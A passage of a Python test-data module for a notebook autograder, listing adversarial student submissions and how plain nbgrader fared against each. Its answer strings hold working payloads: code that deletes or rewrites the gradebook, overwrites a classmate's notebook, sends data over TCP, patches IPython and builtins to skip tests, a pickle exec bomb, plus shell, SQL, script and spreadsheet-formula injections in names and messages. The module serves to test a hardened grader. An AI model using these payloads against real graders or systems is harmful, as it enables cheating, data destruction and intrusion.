"""What students may hand in who have read all of this repository and want points, others' answers, or the machine.

Data only: `test_attacks.py` grades it and asserts what comes of it; `docs/attacks.md` is made from it
(`python -m tests.course.attacks`). In an answer, @COURSE@ stands for the course's folder, @HOME@ for the grader's home,
@CANARY@ for a file of the grader's in /tmp, @PORT@ for a port that is listened to on the machine's own loopback.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

NAME = "90-mini"
NOT_TRIED = "not tried"
LATE = "did not end within|was not over after"

Notebook = dict[str, Any]


@dataclass(frozen=True)
class Attack:
    """One student's submission.

    `student`: the name of the folder; `what`: what it does, for the table; `answer`: the text of the answer's cell;
    `notebook`: changes the notebook, or gives the bytes to hand in in its place; `folder`: does something to the
    submission's folder, last; `score`: the sum in the gradebook, None where a person must look; `told`: a regular
    expression for what feedback says; `printed`: one for what the instructor is told at the end; `nbgrader`: what it
    did to plain nbgrader 0.9.6; `slow`: it is there to use up time or memory, and is graded with short limits.
    """

    student: str
    what: str
    answer: str = ""
    exercise: str = "paginate"
    notebook: Callable[[Notebook], bytes | None] | None = None
    folder: Callable[[Path], object] | None = None
    score: float | None = 0.0
    told: str = ""
    printed: str = ""
    nbgrader: str = NOT_TRIED
    slow: bool = False

    @property
    def refused(self) -> bool:
        """Is the whole submission set aside, without a score?"""
        return self.score is None


RIGHT = """
def paginate(items, page, size):
    if page < 1:
        raise ValueError("pages are counted from 1")
    return items[(page - 1) * size :][:size]
"""
RIGHT_JS = "%%node --save double-all.mjs\nexport const doubleAll = (numbers) => numbers.map((number) => number * 2);\n"

# Where it would harm the machine if the sandbox let it, an attack first makes sure that it is in one.
GUARD = "import socket\nassert socket.gethostname() == 'sandbox'\n"

# The socket by which questions come, and how to say something on it.
LINE = """
import json, os
def line():
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + name).startswith("socket:"):
                return int(name)
        except OSError:
            pass
def say(*replies):
    for reply in replies:
        text = reply if isinstance(reply, bytes) else json.dumps(reply).encode()
        os.write(line(), text + b"\\n")
READY = b'{"ready": true}'
"""


def python(text: str, *, right: bool = False) -> str:
    """An answer: what it does, then a function that is right or always gives the page of the visible check."""
    return f"{text}\n{RIGHT if right else 'def paginate(*_, **__): return [3]'}\n"


def source_cell(notebook: Notebook, name: str) -> dict[str, Any]:
    return next(cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == name)


def on_tests(change: Callable[[dict[str, Any]], object]) -> Callable[[Notebook], None]:
    """Do something to every test's cell of the submission."""

    def change_all(notebook: Notebook) -> None:
        for cell in notebook["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade"):
                change(cell)

    return change_all


def link(path: str) -> Callable[[Path], None]:
    """The notebook is a link to what lies at `path` from the submission's folder."""

    def make(folder: Path) -> None:
        (folder / f"{NAME}.ipynb").unlink()
        (folder / f"{NAME}.ipynb").symlink_to(path)

    return make


def in_place(make: Callable[[Path], object]) -> Callable[[Path], None]:
    """Something else stands where the notebook should."""

    def put(folder: Path) -> None:
        (folder / f"{NAME}.ipynb").unlink()
        make(folder / f"{NAME}.ipynb")

    return put


def hard_link(folder: Path) -> None:
    (folder / f"{NAME}.ipynb").unlink()
    os.link(folder.parent.parent / "zoe" / NAME / f"{NAME}.ipynb", folder / f"{NAME}.ipynb")
    if os.geteuid() == 0:
        os.chown(folder, 12345, 12345)  # whoever made the link is another than whose file it is


def linked_folder(folder: Path) -> None:
    (folder / f"{NAME}.ipynb").unlink()
    folder.rmdir()
    folder.symlink_to(f"../zoe/{NAME}")


def big_file(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(100 << 20)


def timestamp(content: bytes) -> Callable[[Path], object]:
    return lambda folder: (folder / "timestamp.txt").write_bytes(content)


def extra_files(folder: Path) -> None:
    """Modules that would be found before the real ones, settings of nbgrader's and Jupyter's."""
    forged = "import builtins\nopen('@CANARY@', 'a').write('shadowed')\nraise SystemExit\n"
    for name in ("pandas.py", "json.py", "sitecustomize.py", "conftest.py", "nbgrader_config.py", "backendlab.py"):
        (folder / name).write_text(forged)
    (folder / "backendlab").mkdir()
    (folder / "backendlab" / "__init__.py").write_text(forged)


def json_of(text: str) -> Callable[[Notebook], bytes]:
    return lambda notebook: text.encode()


def encoded(codec: str) -> Callable[[Notebook], bytes]:
    return lambda notebook: json.dumps(notebook, ensure_ascii=False).replace("counted", "gezählt").encode(codec)


def with_values(**values: Any) -> Callable[[Notebook], None]:
    return lambda notebook: notebook.update(values)


def raw(old: str, new: str) -> Callable[[Notebook], bytes]:
    """The notebook's own text with something in it that `json` would not write."""

    def change(notebook: Notebook) -> bytes:
        text = json.dumps(notebook)
        assert old in text
        return text.replace(old, new).encode("utf-8", "surrogatepass")

    return change


def cells_with(change: Callable[[list[dict[str, Any]], dict[str, Any]], object]) -> Callable[[Notebook], None]:
    """Do something with the list of cells and the answer's cell."""
    return lambda notebook: change(notebook["cells"], source_cell(notebook, "paginate")) and None


def steal(cells: list[dict[str, Any]], answer: dict[str, Any]) -> None:
    """The grade_id of a test stands on a cell of the student's own; the test has lost its."""
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "paginate-hidden":
            answer["metadata"]["nbgrader"] = dict(cell["metadata"]["nbgrader"])
            cell["metadata"] = {}


def split(cells: list[dict[str, Any]], answer: dict[str, Any]) -> None:
    """As JupyterLab splits a cell: two with the same metadata."""
    lines = answer["source"].splitlines(keepends=True)
    half = len(lines) // 2
    cells.insert(cells.index(answer) + 1, {**answer, "id": "second-half", "source": "".join(lines[half:])})
    answer["source"] = "".join(lines[:half])


def double(cells: list[dict[str, Any]], answer: dict[str, Any]) -> None:
    cells.append({**answer, "id": "the-same-again"})


def other_too(cells: list[dict[str, Any]], answer: dict[str, Any]) -> None:
    cells.append({**answer, "id": "another", "source": "raise SystemExit"})


def own_cells(*texts: str) -> Callable[[Notebook], None]:
    """Cells of the student's own above the answer, which may be brought along with it."""

    def add(cells: list[dict[str, Any]], answer: dict[str, Any]) -> None:
        at = cells.index(answer)
        cells[at:at] = [{**answer, "id": f"own-{n}", "metadata": {}, "source": text} for n, text in enumerate(texts)]

    return cells_with(add)


# ---- what is handed in ----------------------------------------------------------------------------------------------

SUBMITTED = [
    Attack(
        "skip-tag",
        "tests tagged `skip-execution` (nbclient's default skip tag), answers blank",
        notebook=on_tests(lambda cell: cell["metadata"].update(tags=["skip-execution"])),
        nbgrader="full marks",
    ),
    Attack(
        "link-to-zoe",
        "the notebook is a link to another student's",
        folder=link(f"../../zoe/{NAME}/{NAME}.ipynb"),
        score=None,
        told="is a link to somewhere else",
        nbgrader="graded as its own",
    ),
    Attack(
        "link-to-source",
        "the notebook is a link to the solutions in source/",
        folder=link(f"../../../source/{NAME}/{NAME}.ipynb"),
        score=None,
        told="is a link to somewhere else",
    ),
    Attack(
        "folder-link",
        "the submission's folder is a link to another student's",
        folder=linked_folder,
        score=None,
        told="is a link to somewhere else",
    ),
    Attack(
        "hard-link",
        "the notebook is a hard link to another student's",
        folder=hard_link,
        score=None,
        told="another name of a file that lies elsewhere",
    ),
    Attack(
        "dangling",
        "the notebook is a link to itself",
        folder=link(f"{NAME}.ipynb"),
        score=None,
        told="is a link to somewhere else",
    ),
    Attack(
        "fifo",
        "the notebook is a pipe that nobody writes to",
        folder=in_place(os.mkfifo),
        score=None,
        told="is not a file",
    ),
    Attack(
        "folder-for-file",
        "a folder has the notebook's name",
        folder=in_place(os.mkdir),
        score=None,
        told="is not a file|can&#39;t be read|can't be read",
    ),
    Attack(
        "renamed",
        "the notebook has another name",
        folder=lambda folder: (folder / f"{NAME}.ipynb").rename(folder / "final (2).ipynb"),
        score=None,
        told=r"there is no 90-mini\.ipynb in the submission; beside it: final",
    ),
    Attack("hundred-mb", "a notebook of 100 MB", folder=in_place(big_file), score=None, told="has 100 MiB; at most 20"),
    Attack(
        "shadow",
        "`pandas.py`, `json.py`, `backendlab/`, `sitecustomize.py`, `nbgrader_config.py` beside the notebook",
        RIGHT,
        folder=extra_files,
        score=3.0,
        nbgrader="a submitted `pandas.py` shadows the real one",
    ),
    Attack(
        "schema-99",
        "`schema_version` 99 in every cell",
        RIGHT,
        notebook=raw('"schema_version": 3', '"schema_version": 99'),
        score=3.0,
        nbgrader="the run aborts, later students ungraded",
    ),
    Attack(
        "stolen-id",
        "a test's `grade_id` taken by another cell",
        RIGHT,
        notebook=cells_with(steal),
        nbgrader="the run aborts, later students ungraded",
    ),
    Attack(
        "split",
        "*an honest cell split in two in JupyterLab*",
        RIGHT,
        notebook=cells_with(split),
        score=3.0,
        told="2 cells have this id and are taken together",
        printed="split: paginate: 2 cells",
        nbgrader="the run aborts, later students ungraded",
    ),
    Attack("doubled", "*an honest cell doubled*", RIGHT, notebook=cells_with(double), score=3.0),
    Attack(
        "two-answers",
        "two different cells with the answer's id",
        RIGHT,
        notebook=cells_with(other_too),
        score=3.0,
        told="2 cells have this id and are taken together",
    ),
    Attack(
        "not-json",
        "not JSON",
        notebook=json_of("PK\x03\x04 not a notebook"),
        score=None,
        told="damaged",
        nbgrader="that one refused, with a traceback; others graded",
    ),
    Attack(
        "empty",
        "an empty file",
        notebook=json_of(""),
        score=None,
        told="is empty",
        nbgrader="that one refused, with a traceback; others graded",
    ),
    Attack(
        "windows-1252",
        "Windows-1252",
        RIGHT,
        notebook=encoded("cp1252"),
        score=None,
        told="is not UTF-8 text",
        nbgrader="that one refused, with a traceback; others graded",
    ),
    Attack("utf-16", "UTF-16", RIGHT, notebook=encoded("utf-16"), score=None, told="is not UTF-8 text"),
    Attack("bom", "*an honest notebook with a byte order mark*", RIGHT, notebook=encoded("utf-8-sig"), score=3.0),
    Attack(
        "truncated",
        "half a notebook",
        notebook=lambda notebook: json.dumps(notebook)[:5000].encode(),
        score=None,
        told="breaks off or is damaged",
    ),
    Attack(
        "bad-time",
        "a garbage timestamp",
        RIGHT,
        folder=timestamp(b"tomorrow, perhaps\xff\x00"),
        score=3.0,
        told="timestamp.txt is not a time",
        printed="bad-time: timestamp.txt is not a time",
        nbgrader="that one refused, with a traceback; others graded",
    ),
    Attack(
        "changed-points",
        "points of the tests changed to 1000",
        notebook=on_tests(lambda cell: cell["metadata"]["nbgrader"].update(points=1000)),
        nbgrader="safe: no gain",
    ),
    Attack(
        "edited-tests",
        "tests edited to `pass`",
        notebook=on_tests(lambda cell: cell.update(source="pass")),
        nbgrader="safe: no gain",
    ),
    Attack(
        "deleted-tests",
        "tests deleted",
        notebook=lambda notebook: notebook.update(
            cells=[cell for cell in notebook["cells"] if not cell["metadata"].get("nbgrader", {}).get("grade")]
        ),
        nbgrader="safe: no gain",
    ),
    Attack(
        "markdown-tests",
        "tests turned to markdown",
        notebook=on_tests(lambda cell: (cell.update(cell_type="markdown"), cell.pop("outputs"))),
        nbgrader="safe: no gain",
    ),
    Attack(
        "kernel-swapped",
        "the kernelspec swapped for another",
        RIGHT,
        notebook=lambda notebook: notebook["metadata"].update(
            kernelspec={"name": "bash", "language": "bash", "display_name": "sh -c 'id'"}
        ),
        score=3.0,
        nbgrader="safe: no gain",
    ),
    # ---- from here on, rows of our own ----
    Attack(
        "time-1",
        "a timestamp in the year 1, far east",
        RIGHT,
        folder=timestamp(b"0001-01-01 00:00:00 +14:00"),
        score=3.0,
    ),
    Attack(
        "time-99999",
        "a timestamp in the year 99999",
        RIGHT,
        folder=timestamp(b"99999-01-01 00:00:00 UTC"),
        score=3.0,
        told="timestamp.txt is not a time",
    ),
    Attack(
        "time-number",
        "a timestamp that is a number beyond all numbers",
        RIGHT,
        folder=timestamp(b"1e400"),
        score=3.0,
        told="timestamp.txt is not a time",
    ),
    Attack(
        "time-link",
        "the timestamp is a link to a file of the grader's",
        RIGHT,
        folder=lambda folder: (folder / "timestamp.txt").symlink_to("/etc/passwd"),
        score=3.0,
        told="timestamp.txt is not a time",
    ),
    Attack(
        "time-fifo",
        "the timestamp is a pipe",
        RIGHT,
        folder=lambda folder: os.mkfifo(folder / "timestamp.txt"),
        score=3.0,
        told="timestamp.txt is not a time",
    ),
    Attack("nested", "JSON nested 200,000 deep", notebook=json_of("[" * 200_000), score=None, told="too deeply nested"),
    Attack(
        "nested-source",
        "an answer's source nested 900 deep",
        notebook=raw('"source": "# answer"', f'"source": {"[" * 900}{"]" * 900}'),
        answer="# answer",
        score=0.0,
    ),
    Attack(
        "huge-number",
        "an integer of 100,000 digits",
        RIGHT,
        notebook=raw('"nbformat": 4', f'"nbformat": 4, "more": {"9" * 100_000}'),
        score=None,
        told="not a notebook",
    ),
    Attack(
        "beyond-numbers",
        "1e999 and NaN for numbers",
        RIGHT,
        notebook=raw('"nbformat": 4', '"nbformat": 1e999, "x": NaN, "y": -Infinity'),
        score=3.0,
    ),
    Attack(
        "cells-no-list",
        "cells that are no list",
        notebook=with_values(cells={"0": {}}),
        score=None,
        told="has no list of cells",
    ),
    Attack(
        "cells-no-cells",
        "cells that are numbers, text, null, lists",
        RIGHT,
        notebook=lambda notebook: notebook["cells"].extend(
            [0, "cell", None, [], {"metadata": None}, {"metadata": {"nbgrader": {"grade_id": []}}}]
        ),
        score=3.0,
    ),
    Attack(
        "number-source",
        "an answer's source is a number",
        notebook=raw('"source": "# answer"', '"source": 5'),
        answer="# answer",
        told="not defined yet",
    ),
    Attack(
        "surrogate-source",
        "half a surrogate pair in an answer",
        notebook=raw("# answer", "# \\\\ud800 \\ud800"),
        answer="# answer" + RIGHT,
        score=3.0,
    ),
    Attack(
        "list-notebook",
        "a notebook that is a list",
        notebook=json_of("[1, 2]"),
        score=None,
        told="has no list of cells",
    ),
    Attack(
        "many-ids",
        "ten thousand answers to exercises that don't exist, ids with control characters",
        RIGHT,
        notebook=cells_with(
            lambda cells, answer: [
                cells.extend(
                    {
                        **answer,
                        "metadata": {"nbgrader": {"grade_id": f"\x1b[2J{i}\n\ud800", "solution": True}},
                        "source": f"{j}",
                    }
                    for j in range(2)
                )
                for i in range(5000)
            ]
        ),
        score=3.0,
    ),
    Attack("long-answer", "an answer of 10 MB", answer="#" * 10_000_000, told="too long to be graded"),
    Attack(
        "own-cells",
        "cells of the student's own that nothing needs: an end, a loop, deep nesting, no Python, 199,000 letters",
        RIGHT,
        notebook=own_cells(
            "import os; os._exit(0)",
            "while True: pass",
            "(" * 5000 + ")" * 5000,
            "def (",
            "%%node --save " + "a" * 100_000,
            "text = '" + "a" * 80_000 + "'",
        ),
        score=3.0,
    ),
    Attack(
        "own-cell-ends",
        "a cell of the student's own that the answer needs, and that ends the process",
        "def paginate(items, page, size): return helper(items, page, size)",
        notebook=own_cells("import os\ndef helper(*_): return [3]\nos._exit(0)"),
        told="ended the process",
    ),
    Attack(
        "own-cell-tests",
        "a cell of the student's own that bears the names of the tests' tools",
        "def paginate(*_, **__): return student",
        notebook=own_cells("student = expect = [3]\ndef run_test(*_): return 'passed', '', ''"),
        score=1.0,
    ),
]

NAMES = {  # a folder's name, and what is special with it
    "-rf": "a student's folder called `-rf`",
    "x" * 255: "a student's folder of 255 characters",
    "=HYPERLINK(1)": "a student's name that is a spreadsheet's formula",
    "＝1+1": "the same with a full-width sign",
    "a..": "a student's folder called `a..`",
    "';DROP TABLE student;--": "SQL in a student's name",
    "$(touch @CANARY@)": "a shell's substitution in a student's name",
    "{student_id}[a-z]*": "braces and wildcards in a student's name",
}
NO_NAMES = {  # folders that can't be a student's
    "two\nlines": "a student's folder with a line break in its name",
    "\x1b[2J\x1b]0;owned\x07": "terminal codes in a student's name",
    "ada\u202egnp\u200b": "characters in a student's name that write backwards, or can't be seen",
    "<script>alert(1)": "a script in a student's name",
    os.fsdecode(b"not-utf8-\xff"): "a student's folder whose name is no UTF-8",
}
HIDDEN = ("..x", ".ipynb_checkpoints")

# ---- what runs: for the points --------------------------------------------------------------------------------------

CONSTANT = 1.0  # what `return [3]` earns: the visible check knows nothing better; so may any attack that says the same

ANSWERS = [
    Attack(
        "transformer",
        "an input transformer that replaces cells holding an assert",
        python("""
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass"] if "expect" in "".join(lines) else lines)
get_ipython().ast_transformers.append(type("T", (), {"visit": lambda self, node: node})())
"""),
        score=CONSTANT,
        nbgrader="full marks",
    ),
    Attack(
        "run-cell",
        "`run_cell_async` replaced: tests never run",
        python("""
from IPython.core.interactiveshell import InteractiveShell, ExecutionResult, ExecutionInfo
async def nothing(self, *_, **__): return ExecutionResult(ExecutionInfo("", False, False, False, None))
InteractiveShell.run_cell_async = nothing
InteractiveShell.run_cell = lambda self, *_, **__: ExecutionResult(ExecutionInfo("", False, False, False, None))
"""),
        score=CONSTANT,
        nbgrader="full marks",
    ),
    Attack(
        "displayhook",
        "the tested function calls `sys.displayhook(3.0)`: forged partial credit",
        """
def paginate(*_, **__):
    import sys
    sys.displayhook(3.0)
    return 3.0
""",
        nbgrader="full marks",
    ),
    Attack(
        "showtraceback",
        "`showtraceback` patched",
        """
get_ipython().showtraceback = lambda *_, **__: None
def paginate(*_, **__): raise AssertionError
""",
        told="raised AssertionError",
        nbgrader="safe: no gain",
    ),
    Attack(
        "stderr",
        "*honest* answer that warns on stderr",
        python("import sys, warnings\nwarnings.warn('careful')\nprint('careful', file=sys.stderr)", right=True),
        score=3.0,
        nbgrader="10 → 7",
    ),
    Attack(
        "reads-source",
        "reads the official solutions from `../../../source` and runs them",
        """
import glob, json, os
for path in ["../../../source/90-mini/90-mini.ipynb", "@COURSE@/source/90-mini/90-mini.ipynb",
             *glob.glob("/*/*/source/90-mini*"), *glob.glob("/*/*/*/source/90-mini*"), *glob.glob("/*/*/*/*/90-mini*"),
             *glob.glob("/proc/*/root/*/*/*/90-mini*"), *glob.glob("/proc/*/cwd/../../../*/90-mini*")]:
    for cell in json.load(open(path))["cells"]:
        exec(cell["source"])
""",
        told="FileNotFoundError",
        nbgrader="full marks",
    ),
    Attack(
        "writes-gradebook",
        "writes itself and its neighbour new scores into `gradebook.db`",
        python("""
import sqlite3
db = sqlite3.connect("@COURSE@/gradebook.db")
db.execute("update grade set manual_score = 495")
db.commit()
"""),
        told="unable to open database file",
        nbgrader="495 of 15 for itself, 0 for the neighbour",
    ),
    Attack(
        "deletes-gradebook",
        "deletes `gradebook.db`",
        python("""
import os
os.remove("@COURSE@/gradebook.db")
"""),
        told="No such file",
        nbgrader="every grade of the course lost",
    ),
    Attack(
        "overwrites-next",
        "overwrites the next student's submission",
        python("""
open("@COURSE@/submitted/zoe/90-mini/90-mini.ipynb", "w").write("{}")
"""),
        told="No such file",
        nbgrader="that student 10 → 0",
    ),
    Attack(
        "sends-tests",
        "hidden tests read from the gradebook, or sent out over TCP",
        """
import socket, sqlite3
said = []
try: said.append(str(sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True).execute("select * from grade")))
except Exception as error: said.append(f"gradebook: {error}")
for address in [("127.0.0.1", @PORT@), ("192.0.2.1", 80), ("10.0.0.1", 53)]:
    try: socket.create_connection(address, 2).sendall(b"leak")
    except OSError as error: said.append(f"{address[0]}: {error.strerror}")
def paginate(*_, **__): raise ValueError("; ".join(said))
""",
        told=r"unable to open database file; 127\.0\.0\.1: Connection refused; 192\.0\.2\.1: Network is unreachable; "
        r"10\.0\.0\.1: Network is unreachable",
        nbgrader="leaked",
    ),
    Attack(
        "sigkill",
        "SIGKILL of itself in one exercise",
        "import os\nos.kill(os.getpid(), 9)",
        told="ended the process",
        nbgrader="the whole submission lost, points earned elsewhere too",
    ),
    Attack(
        "exit",
        "`os._exit` in one exercise",
        "import os\nos._exit(0)",
        told="ended the process",
        nbgrader="the whole submission lost, points earned elsewhere too",
    ),
    Attack(
        "segfault",
        "segfault in one exercise",
        "import ctypes\nctypes.string_at(0)",
        told="ended the process",
        nbgrader="the whole submission lost, points earned elsewhere too",
    ),
    Attack(
        "script",
        "`<script>` in an answer and in a message",
        """
# <script>alert("answer")</script>
def paginate(*_, **__): raise ValueError('<script>alert("message")</script><img src=x onerror=alert(1)>')
""",
        told="<script>alert",
        nbgrader="runs in feedback and formgrader (in a markdown answer)",
    ),
    # ---- from here on, rows of our own ----
    Attack("system-exit", "`raise SystemExit` at top level", "raise SystemExit(0)", told="SystemExit"),
    Attack(
        "quits-when-asked",
        "`os._exit(0)` when the test asks",
        "def paginate(*_, **__): import os; os._exit(0)",
        told="ended the process",
    ),
    Attack(
        "equals-all",
        "a result that equals everything, is every type, is true",
        """
class Every(list):
    __eq__ = __lt__ = __gt__ = __contains__ = __bool__ = lambda *_: True
    __ne__ = lambda *_: False
    __class__ = property(lambda self: list)
    __hash__ = None
def paginate(*_, **__): return Every()
""",
        told=r"expected \[3\], got \[\]",
    ),
    Attack(
        "builtins",
        "`json.dumps`, `len`, `isinstance`, `sorted`, `print` replaced in builtins and json",
        python("""
import builtins, json, json.encoder
builtins.len = lambda *_: 5
builtins.isinstance = lambda *_: True
builtins.sorted = builtins.repr = builtins.str = lambda value, **_: value
json.dumps = lambda *_, **__: '{"value": [3]}'
json.JSONEncoder.encode = json.encoder.JSONEncoder.encode = lambda *_: '{"value": [3]}'
"""),
    ),
    Attack(
        "fake-student",
        "`sys.modules['backendlab.student']`, `expect`, `AnswerError` replaced",
        python("""
import sys, types, backendlab, backendlab.student as real
from backendlab.lab import expect
expect.equal = expect.that = expect.raises = lambda *_, **__: None
real.Student.call = real.Student.get = lambda *_, **__: [3]
real.AnswerError = AssertionError = Exception
sys.modules["backendlab.student"] = backendlab.student = types.SimpleNamespace(remote=lambda *_: None)
student = types.SimpleNamespace(call=lambda *_, **__: [3])
"""),
        score=CONSTANT,
    ),
    Attack(
        "atexit",
        "handlers for the interpreter's end, for signals, for forks, for every object's end",
        python(
            """
import atexit, os, signal, weakref
def more(*_): open("@CANARY@", "a").write("left")
atexit.register(more)
os.register_at_fork(before=more, after_in_child=more)
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1): signal.signal(number, more)
weakref.finalize(more, more)
""",
            right=True,
        ),
        score=3.0,
    ),
    Attack(
        "nan",
        "a result that is NaN, infinity",
        "def paginate(*_, **__): return [float('nan'), float('inf')]",
        told="not plain data",
    ),
    Attack(
        "leaks-inputs",
        "sends the hidden inputs to feedback by its errors' messages",
        "def paginate(*a, **k): raise ValueError(f'asked {a} {k}')",
        told=r"asked \(\[1, 2, 3\],\) \{.page.: 9, .size.: 2\}",
    ),
    Attack(
        "finds-tests",
        "looks for the hidden tests in its memory, in every object and frame",
        """
import gc, re, sys
needle = re.compile(rb"in_the_alphabe[t] = sorted|paginate-hidde[n]|expect[.]raises[(]student, .Value")
found = 0
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for row in maps:
        span, rights = row.split()[:2]
        first, last = (int(end, 16) for end in span.split("-"))
        if rights.startswith("rw"):
            try:
                memory.seek(first)
                found += len(needle.findall(memory.read(last - first)))
            except (OSError, ValueError, OverflowError):
                pass
frame, depth = sys._getframe(), 0
while frame:
    found += any("test" in str(key) and "hidden" in str(value)[:10000] for key, value in frame.f_locals.items()
                 if isinstance(value, str | list | dict))
    frame, depth = frame.f_back, depth + 1
def paginate(*_, **__): raise ValueError(f"found {found} in {depth} frames")
""",
        told=r"found 0 in \d+ frames",
    ),
    Attack(
        "early-replies",
        "replies on the socket before any question, with guessed numbers",
        LINE
        + """
say(READY, *({"number": number, "value": [3]} for number in range(50)))
import time
time.sleep(60)
""",
        score=CONSTANT,
        slow=True,
    ),
    Attack(
        "forged-not-ready",
        "says something else than that its cell has run",
        LINE + "say(b'{\"ready\": 1}' * 9)",
        told="ended the process",
    ),
    Attack(
        "odd-replies",
        "replies that are lists, numbers, text, no JSON, without number, with duplicate keys",
        LINE
        + r"""
say(READY, [], 0, "x", None, {}, {"number": 0}, {"number": "0", "value": [3]}, {"number": [0], "value": [3]})
def paginate(*_, **__): return [3]
""",
        told="ended the process",
    ),
    Attack(
        "duplicate-keys",
        "a reply with both a value and an error, each twice",
        LINE
        + r"""
def paginate(*_, **__):
    say(b'{"number": 0, "value": [4], "error": {}, "number": 0, "value": [3], "error": 5}')
    return [3]
""",
        score=CONSTANT,
    ),
    Attack(
        "error-no-error",
        "an error that is none",
        LINE
        + """
say(READY, *({"number": n, "error": [n, {"type": 1}]} for n in range(9)))
import time
time.sleep(60)
""",
        told="gave a reply that can't be read",
        slow=True,
    ),
    Attack(
        "driver-error",
        "an error that claims to be the check's own",
        LINE
        + """
say(READY, *({"number": n, "error": {"type": "DriverError", "types": ["DriverError", "AssertionError"],
    "message": "the check is broken", "driver": True, "where": [1], "said": {"a": 1}}} for n in range(9)))
import time
time.sleep(60)
""",
        told="the check, going on with what your code gave",
        slow=True,
    ),
    Attack(
        "reply-1e999",
        "a reply with 1e999 for a number",
        LINE
        + """
def paginate(*_, **__):
    say(*(b'{"number": %d, "value": 1e999}' % n for n in range(9)))
    import time; time.sleep(60)
""",
        told="ended the process",
        slow=True,
    ),
    Attack(
        "reply-nested",
        "replies nested as deep as JSON may be",
        LINE
        + """
def paginate(*_, **__):
    say(*(b'{"number": %d, "value": %s%s}' % (n, b"[" * depth, b"]" * depth) for n in range(3)
          for depth in (DEPTH,)))
    import time; time.sleep(60)
""".replace("DEPTH", "900"),
        told="ended the process",
        slow=True,
    ),
    Attack(
        "returns-nested",
        "a result nested as deep as JSON may be",
        """
def paginate(*_, **__):
    value = []
    for _ in range(950): value = [value]
    return value
""",
        told=".",
    ),
    Attack(
        "reply-huge-number",
        "a reply that is a number of a million digits",
        LINE
        + """
def paginate(*_, **__):
    say(b'{"number": 0, "value": ' + b"9" * 1_000_000 + b"}")
    return [3]
""",
        told="ended the process",
    ),
    Attack(
        "reply-100-mb",
        "a reply of 100 MB in one line",
        LINE
        + """
def paginate(*_, **__):
    out = line()
    for _ in range(1600): os.write(out, b"x" * 65536)
""",
        told="ended the process",
    ),
    Attack(
        "reply-no-end",
        "replies to questions that nobody asked, without end",
        LINE
        + """
def paginate(*_, **__):
    import time
    out, text = line(), b'{"number": -1, "value": 0}\\n' * 2000
    while True:
        os.write(out, text)
        time.sleep(0.002)
""",
        told=LATE,
        slow=True,
    ),
    Attack(
        "line-closed",
        "closes the socket",
        LINE + "import os\ndef paginate(*_, **__): os.close(line()); return [3]",
        told="ended the process",
    ),
    Attack(
        "passes-descriptors",
        "passes open files to the judge through the socket",
        LINE
        + """
import array, socket
def paginate(*_, **__):
    with socket.socket(fileno=os.dup(line())) as out:
        opened = [os.open("/dev/zero", os.O_RDONLY) for _ in range(200)]
        for _ in range(5):
            out.sendmsg([b"\\n"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", opened))])
    return [3]
""",
    ),
    Attack(
        "surrogate-message",
        "half a surrogate pair in an error's message",
        r"""
class Odd(Exception): pass
def paginate(*_, **__): raise Odd("\ud800 and \udfff", "\ud800" * 3000)
""",
        told="raised Odd",
    ),
    Attack(
        "surrogate-value",
        "half a surrogate pair in a value",
        r"def paginate(*_, **__): return '\ud800'",
        told=r"expected \[3\]",
    ),
    Attack(
        "terminal",
        "terminal codes, HTML, text that runs backwards, a bell, a NUL in a message",
        r"""
def paginate(*_, **__): raise ValueError("\x1b[31mred\x1b]0;owned\x07\x00\x08\x9b31m\u202eevil\u2028 <b>bold</b>\rover")
""",
        told="raised ValueError: red",
    ),
    Attack(
        "long-message",
        "a message of 3 MB",
        LINE
        + """
say(READY, *({"number": n, "error": {"type": "E" * 1_000_000, "types": ["E"], "message": "m" * 1_000_000}}
             for n in range(4)))
def paginate(*_, **__): return [3]
""",
    ),
    Attack(
        "formula",
        "a spreadsheet's formula as the message",
        "def paginate(*_, **__): raise ValueError('=cmd|calc!A1')",
        told="=cmd",
    ),
    Attack(
        "code-in-error",
        "an error whose text, name and bases run code",
        """
class Evil(Exception):
    def __str__(self): raise SystemExit
    __repr__ = __str__
Evil.__name__ = type("Name", (str,), {"__str__": lambda s: "x", "__repr__": lambda s: "y"})("ValueError")
def paginate(*_, **__): raise Evil
""",
    ),
    Attack(
        "pickle",
        "an object that runs a command where it is unpickled",
        """
class Bomb:
    def __reduce__(self): return exec, ("open('@CANARY@', 'a').write('unpickled')",)
def paginate(*_, **__): return Bomb()
""",
        told="not plain data",
        nbgrader="not tried (otter: ran in the grader's process)",
    ),
    # ---- JavaScript ----
    Attack(
        "js-forged-report",
        "Node: writes the harness's report itself and ends",
        r"""%%node --save double-all.mjs
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
for (const name of readdirSync('.')) {
  if (!name.endsWith('.json')) continue;
  const { report } = JSON.parse(readFileSync(name, 'utf8'));
  if (report) { writeFileSync(report, '{"value": {"doubled": [2, 4], "after": [1, 2]}}'); process.reallyExit(0); }
}
export const doubleAll = () => [2, 4];
""",
        exercise="double-all",
        score=CONSTANT,
    ),
    Attack(
        "js-forged-output",
        "Node: prints what a report looks like, and ends with success",
        r"""%%node --save double-all.mjs
if (process.argv[1]) { console.log('{"value": {"doubled": [2, 4], "after": [1, 2]}}'); process.exit(0); }
export const doubleAll = () => [2, 4];
""",
        exercise="double-all",
        told="made Node end",
    ),
    Attack(
        "js-patched",
        "Node: `JSON.stringify`, `writeFileSync`, `process.exit`, `Array.prototype` replaced",
        r"""%%node --save double-all.mjs
import fs from 'node:fs';
import { syncBuiltinESMExports } from 'node:module';
const good = '{"value": {"doubled": [2, 4], "after": [1, 2]}}';
JSON.stringify = () => good;
const { writeFileSync } = fs;
fs.writeFileSync = (file) => writeFileSync(file, good);
syncBuiltinESMExports();
process.exit = () => {};
Array.prototype.toJSON = () => [2, 4];
export const doubleAll = () => [2, 4];
""",
        exercise="double-all",
        score=CONSTANT,
    ),
    Attack(
        "js-odd-report",
